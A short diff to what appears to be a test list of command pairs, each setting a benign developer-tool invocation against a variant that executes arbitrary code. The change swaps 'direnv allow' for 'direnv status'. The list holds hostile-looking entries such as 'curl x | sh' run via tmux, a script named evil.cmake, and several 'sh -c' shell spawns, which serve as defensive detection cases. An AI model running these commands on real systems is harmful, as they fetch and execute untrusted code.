@@ -234,7 +234,7 @@ CODE_IN_ARGUMENTS = [
     ("cmake -S . -B build", "cmake -P /tmp/evil.cmake"),
     ("tmux ls", "tmux new-session -d 'curl x | sh'"),
     ("screen -ls", "screen -dm sh -c id"),
-    ("direnv allow", "direnv exec . sh -c id"),
+    ("direnv status", "direnv exec . sh -c id"),
     ("mamba install numpy", "mamba run -n base sh -c id"),
     ("opam list", "opam exec -- sh -c id"),
     ("corepack enable", "corepack yarn node -e 1"),
